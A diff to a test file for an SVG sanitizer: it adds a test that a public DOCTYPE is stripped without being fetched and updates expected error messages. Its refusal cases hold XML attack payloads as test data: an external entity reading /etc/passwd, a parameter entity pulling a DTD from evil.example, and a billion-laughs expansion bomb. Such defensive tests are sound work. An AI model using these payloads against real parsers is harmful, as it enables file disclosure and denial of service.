@@ -120,6 +120,13 @@ test('what a text says stays text', () => {
   assert.match(svg, /<text x="1" y="9">&lt;script&gt;&amp;lt;b<\/text>/)
 })
 
+test('the document type that older programs write is left out, and nothing is fetched for it', () => {
+  const type = '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">'
+  const made = makeSafe(`${type}${picture(square)}`)
+  assert.ok('svg' in made)
+  assert.doesNotMatch(made.svg, /DOCTYPE|w3\.org\/Graphics/)
+})
+
 const laughs = Array.from(
   { length: 9 },
   (_, n) => `<!ENTITY l${n + 1} "&l${n};&l${n};&l${n};&l${n};&l${n};&l${n};&l${n};&l${n};&l${n};&l${n};">`,
@@ -136,24 +143,19 @@ const patterns = (levels: number) =>
 
 const refusals: [string, string | Buffer, RegExp][] = [
   [
-    'a document type',
-    `<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">${picture(square)}`,
-    /declares a document type/,
-  ],
-  [
     'an entity that reads a file',
     `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${picture('<text>&x;</text>')}`,
-    /declares a document type/,
+    /declares entities/,
   ],
   [
     'an entity of a parameter',
     `<!DOCTYPE svg [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]>${picture(square)}`,
-    /declares a document type/,
+    /declares entities/,
   ],
   [
     'a billion laughs',
     `<!DOCTYPE svg [<!ENTITY l0 "ha">${laughs.join('')}]>${picture('<text>&l9;</text>')}`,
-    /declares a document type/,
+    /declares entities/,
   ],
   ['an entity that nobody declared', picture('<text>&x;</text>'), /not well-formed/],
   ['a part that is not closed', picture('<g>'), /not well-formed/],
